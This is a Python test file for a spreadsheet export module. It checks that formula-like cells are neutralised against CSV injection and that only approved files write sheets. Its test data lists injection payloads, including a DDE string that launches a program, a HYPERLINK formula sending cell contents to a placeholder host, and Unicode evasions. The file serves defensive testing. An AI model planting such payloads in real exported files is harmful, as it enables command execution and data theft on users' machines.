"""No sheet that leaves computes anything, and every one is written by the one writer."""

import ast
import csv
import io

import pytest

from config.launcher.processes import BASE_DIR
from people.spreadsheets import Cell, Sheet, plain

# OWASP: CSV injection; its own examples, and the full-width signs that some programs fold.
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1", " \u00a0=1",
    '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "−1", "﹦1", "\ufeff=1", "\u200b=1",
)  # fmt: skip
TEXTS = ("", "soap", "a=b", "3-1", "O'Neil", "Оксана", "1 pair", "?", "'quoted")
# Made-up manifests, which we read ourselves and whose telephone numbers begin with +; the register of our own
# fields; and two commands that print to a program each line that it gave, as it gave it.
_FOR_PROGRAMS = {
    "people/management/commands/match_names.py",
    "parcels/management/commands/categorise.py",
    "config/bench/importing.py",
    "config/register.py",
    "config/bench/matching.py",
    "parcels/demonstration/loading.py",
    "parcels/management/commands/make_manifest.py",
}


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_is_led_by_an_apostrophe(cell: str) -> None:
    assert plain(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*TEXTS, 0, -5, 3.5, -0.5, None])
def test_other_cells_stay_as_they_are(cell: Cell) -> None:
    assert plain(cell) is cell


def test_sheet_holds_what_was_given_and_nothing_else() -> None:
    file = io.StringIO()
    sheet = Sheet(file, ["name", "=count"])
    sheet.add_all([[text, -3] for text in (*FORMULAS, *TEXTS)])

    header, *rows = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert header == ["name", "'=count"]
    shown = [f"'{each}".replace("\r", "\n") for each in FORMULAS]
    assert [name for name, _ in rows] == [*shown, *TEXTS]
    assert {count for _, count in rows} == {"-3"}


def test_every_sheet_is_written_here() -> None:
    writers = set()
    for folder in ("config", "people", "exchanges", "parcels"):
        for path in (BASE_DIR / folder).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
                if called.split(".")[-1] in ("DictWriter", "Workbook", "to_csv", "to_excel") or called in (
                    "csv.writer", "writer",
                ):  # fmt: skip
                    writers.add(str(path.relative_to(BASE_DIR)))
                # Also under another name.
                if isinstance(node, ast.ImportFrom) and node.module == "csv":
                    writers.add(str(path.relative_to(BASE_DIR)))

    assert writers == {"people/spreadsheets.py", *_FOR_PROGRAMS}
